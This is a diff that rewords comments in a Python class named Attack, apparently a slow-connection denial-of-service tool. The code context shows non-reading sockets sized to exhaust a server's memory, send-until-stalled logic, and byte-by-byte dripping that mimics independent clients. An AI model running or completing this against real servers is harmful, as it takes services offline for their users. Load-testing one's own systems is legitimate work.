@@ -13,8 +13,8 @@ import signal
 import socket
 import time
 
-DEAF_SNDBUF = 65536  # of each: a thousand of them must use up the server's memory, not the machine's
-IP_BIND_ADDRESS_NO_PORT = 24  # linux/in.h; with a port of bind(2)'s choice the ports of a second run would not suffice
+DEAF_SNDBUF = 65536  # per socket: a thousand of them must use up the server's memory, not the machine's
+IP_BIND_ADDRESS_NO_PORT = 24  # linux/in.h; if bind(2) chose the ports, there would be too few for a second run
 
 
 class Attack:
@@ -40,7 +40,7 @@ class Attack:
             self.did["connected"] += 1
             try:
                 s.connect((self.o.host, self.o.port))
-            except ConnectionResetError:  # refused, and so soon
+            except ConnectionResetError:  # already refused
                 self.did["ended"] += 1
                 s.close()
                 continue
@@ -58,7 +58,7 @@ class Attack:
             s.close()
 
     def push(self, deaf):
-        """Fills what there is to fill, until nothing has been taken from anybody for half a second, or for 5 s."""
+        """Sends until no socket has accepted anything for half a second, or for 5 s."""
         block, begin = bytes(65536), time.monotonic()
         last = begin
         while time.monotonic() < min(last + 0.5, begin + 5) and not self.stop:
@@ -72,7 +72,7 @@ class Attack:
         self.did["deaf_stuck"] = sum(s.fileno() >= 0 for s in deaf)
 
     def drip(self, slow):
-        """A byte of each by turns, evenly: clients that know nothing of each other do not send together."""
+        """Sends one byte from each in turn, evenly spread: independent clients do not send at the same time."""
         turns, begin, n_sent = itertools.cycle(slow), time.monotonic(), 0
         while not self.stop:
             n_due = int(len(slow) * (time.monotonic() - begin) / self.o.every)
